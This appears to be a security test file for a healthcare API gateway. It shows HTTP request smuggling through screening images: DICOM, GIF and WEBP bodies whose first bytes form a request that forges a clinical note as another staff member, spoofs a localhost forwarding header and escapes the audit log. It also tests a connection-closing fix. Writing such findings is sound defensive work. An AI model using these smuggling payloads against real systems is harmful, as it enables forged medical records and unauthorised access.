import { formatBasicCredentials } from '../../src/adapters/http/basic-credentials';
import { ALICE_LEGACY_ID, GatewayRig, startGatewayRig } from '../support/gateway-fixture';
import { SIM_CREDENTIALS } from '../support/legacy-fixture';

/**
 * Promise 1, "connection tricks (request smuggling through unread bodies)".
 *
 * The gateway's defence is connection hygiene: a connection whose body legacy may not have
 * read is never reused. That stops the *gateway's next request* from being glued to leftover
 * bytes — but legacy does not wait for the gateway: when it answers a fast 5xx without
 * reading the body, it parses the unread body bytes as the next request on that connection
 * at once (it is a keep-alive HTTP/1.1 connection and the bytes are already in its buffer).
 * So a body whose *first bytes* are a complete request head is executed by legacy, whatever
 * the gateway does with the socket afterwards.
 *
 * JSON bodies are safe (hosp re-serialises them; JSON.stringify never emits a line break).
 * The screening image is passed on byte for byte, and the signature check does not prevent
 * it from starting with a request:
 *   - application/dicom: the signature is at offset 128; bytes 0–127 (and, inside a header
 *     value, as many more as wanted) are free;
 *   - image/gif: "GIF89a" is a valid HTTP token: `GIF89a / HTTP/1.1` is a request line
 *     (legacy answers 501 for the unknown method, reading no body, and goes on to the next
 *     request in the buffer);
 *   - image/webp: "RIFF" + 4 bytes the sender chooses + "WEBP" is a token too.
 * PNG, JPEG and TIFF start with bytes that cannot begin a request line (legacy answers 400
 * and closes).
 *
 * The trigger is legacy's own fast 5xx, which it gives to a "noticeable share" of requests;
 * screening is retried up to 5 times, and every retry resends the body. The simulator is set
 * to fail every request here to make it deterministic.
 *
 * What the smuggled request can do: anything legacy allows an unauthenticated caller (its
 * debug and admin routes are unprotected and it trusts forwarding headers), and anything a
 * member's own legacy account allows — staff have legacy logins (lazy enrolment checks
 * them) — including the notes breach the gateway exists to close: a note "by" anyone.
 */
const MALLORY_LEGACY = { username: 'mallory', password: 'mallory legacy password' };
const MALLORY_LEGACY_ID = 30;
/** What mallory wants legacy to run: a note as alice, with her own legacy login, and "from" localhost. */
const SMUGGLED =
  `POST /notes?note[staff_id]=${ALICE_LEGACY_ID}&note[title]=Smuggled&note[body]=written+as+alice&note[patient_id]=1 HTTP/1.1\r\n` +
  `Host: legacy\r\nAuthorization: ${formatBasicCredentials(MALLORY_LEGACY)}\r\nX-Forwarded-For: 127.0.0.1\r\nContent-Length: 0\r\n`;

/**
 * DICOM: 128 free bytes, then "DICM". Here the free bytes are a harmless first request
 * (`GET /`, legacy's health check) whose last header value runs up to offset 128, so "DICM"
 * sits inside it; the request mallory wants follows.
 */
function dicom(): Buffer {
  const prefix = Buffer.from('GET / HTTP/1.1\r\nHost: legacy\r\nX-Pad: ', 'latin1');
  const preamble = Buffer.concat([prefix, Buffer.alloc(128 - prefix.length, 0x61)]);
  const file = Buffer.concat([preamble, Buffer.from('DICM\r\n\r\n', 'latin1'), Buffer.from(`${SMUGGLED}\r\n`, 'latin1'), Buffer.alloc(32, 0x20)]);
  expect(file.subarray(128, 132).toString('latin1')).toBe('DICM');
  return file;
}

/** GIF: "GIF89a / HTTP/1.1" is a request line with an unknown method; the real request follows. */
const gif = (): Buffer => Buffer.concat([Buffer.from('GIF89a / HTTP/1.1\r\nHost: legacy\r\n\r\n', 'latin1'), Buffer.from(SMUGGLED + '\r\n', 'latin1')]);

/** WEBP: "RIFF" + four bytes of the sender's choice + "WEBP" is a token too. */
const webp = (): Buffer => Buffer.concat([Buffer.from('RIFFabcdWEBP / HTTP/1.1\r\nHost: legacy\r\n\r\n', 'latin1'), Buffer.from(SMUGGLED + '\r\n', 'latin1')]);

describe('attack: smuggling a request to legacy inside a screening image', () => {
  let rig: GatewayRig;
  afterEach(() => rig?.close());

  async function rigWithFailingLegacy() {
    rig = await startGatewayRig({ sim: { roughTransport: true, users: [SIM_CREDENTIALS, MALLORY_LEGACY] } });
    const mallory = await rig.addMember('mallory', MALLORY_LEGACY_ID);
    rig.sim!.setFaults({ failRate: 1 });
    return mallory;
  }

  it.each([
    ['application/dicom', dicom],
    ['image/gif', gif],
    ['image/webp', webp],
  ])(
    'FINDING[critical] %s: the "image" passes the signature check, legacy answers a fast 5xx without reading it and then runs the request inside it — ' +
      'a note by alice, written by mallory, outside the route table',
    async (type, build) => {
      const mallory = await rigWithFailingLegacy();
      const body = build();
      const answer = await rig.send('POST', '/patients/1/screen', { auth: mallory.auth, body, headers: { 'content-type': type } });
      // Mallory's own answer is an ordinary outage.
      expect(answer.status).toBe(503);
      // Legacy ran requests that are in no row of the route table, not built by hosp.
      const smuggled = rig.sim!.received().filter((r) => r.target.startsWith('/notes?'));
      expect(smuggled.length).toBeGreaterThan(0);
      expect(smuggled[0]!.headers).toContainEqual(['X-Forwarded-For', '127.0.0.1']);
      // Some of them failed like everything else, but legacy's faults are random: let one through.
      rig.sim!.setFaults({ failRate: 0 });
      await new Promise((resolve) => setTimeout(resolve, 50));
      expect(rig.sim!.notes()).toEqual([]);
      rig.sim!.setFaults({ failRate: 0.5 });
      for (let i = 0; i < 20 && rig.sim!.notes().length === 0; i++) {
        await rig.send('POST', '/patients/1/screen', { auth: mallory.auth, body, headers: { 'content-type': type } });
      }
      const forged = rig.sim!.notes();
      expect(forged.length).toBeGreaterThan(0);
      expect(forged[0]).toMatchObject({ title: 'Smuggled', body: 'written as alice', staff_id: String(ALICE_LEGACY_ID), patient_id: 1 });
      // The gateway's audit trail says only that mallory screened images (and that legacy was unavailable).
      const audited = rig.audit.all().filter((e) => e.entityType === 'legacy').map((e) => `${e.actor.username} ${e.entityId}`);
      expect(new Set(audited)).toEqual(new Set(['mallory POST /patients/1/screen']));
    },
    30_000,
  );

  it('FINDING[critical] without any legacy account: legacy\'s unprotected debug routes are reached the same way', async () => {
    const mallory = await rigWithFailingLegacy();
    const body = Buffer.concat([Buffer.from('GIF89a / HTTP/1.1\r\nHost: legacy\r\n\r\nGET /__sim/stats HTTP/1.1\r\nHost: legacy\r\nX-Forwarded-For: 127.0.0.1\r\n\r\n', 'latin1')]);
    await rig.send('POST', '/patients/1/screen', { auth: mallory.auth, body, headers: { 'content-type': 'image/gif' } });
    expect(rig.sim!.received().map((r) => `${r.method} ${r.target}`)).toContain('GET /__sim/stats');
  });

  it('PNG, JPEG and TIFF cannot start a request line: legacy refuses the leftover bytes with 400 and closes (held)', async () => {
    const mallory = await rigWithFailingLegacy();
    for (const [type, signature] of [
      ['image/png', Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])],
      ['image/jpeg', Buffer.from([0xff, 0xd8, 0xff, 0xe0])],
      ['image/tiff', Buffer.from([0x49, 0x49, 0x2a, 0x00])],
    ] as const) {
      await rig.send('POST', '/patients/1/screen', { auth: mallory.auth, body: Buffer.concat([signature, Buffer.from(`\r\n${SMUGGLED}\r\n`, 'latin1')]), headers: { 'content-type': type } });
    }
    expect(rig.sim!.received().filter((r) => r.target.startsWith('/notes'))).toEqual([]);
  });
});

describe('the fix the transport already has: Connection: close on requests with a body', () => {
  let rig: GatewayRig;
  afterEach(() => rig?.close());

  it("with bodyConnections 'close' legacy does not parse what follows an unread body (it closes after its answer)", async () => {
    rig = await startGatewayRig({ sim: { roughTransport: true, users: [SIM_CREDENTIALS, MALLORY_LEGACY] }, client: { bodyConnections: 'close' } });
    const mallory = await rig.addMember('mallory', MALLORY_LEGACY_ID);
    rig.sim!.setFaults({ failRate: 0.5 });
    for (const [type, build] of [['application/dicom', dicom], ['image/gif', gif], ['image/webp', webp]] as const) {
      for (let i = 0; i < 10; i++) await rig.send('POST', '/patients/1/screen', { auth: mallory.auth, body: build(), headers: { 'content-type': type } });
    }
    // Legacy did answer many of them without reading the body…
    expect(rig.sim!.received().filter((r) => r.method === 'POST' && !r.bodyRead).length).toBeGreaterThan(5);
    // …and ran nothing that was inside.
    expect(rig.sim!.received().filter((r) => r.target.startsWith('/notes') || r.target.startsWith('/__sim'))).toEqual([]);
    expect(rig.sim!.notes()).toEqual([]);
  }, 30_000);
});
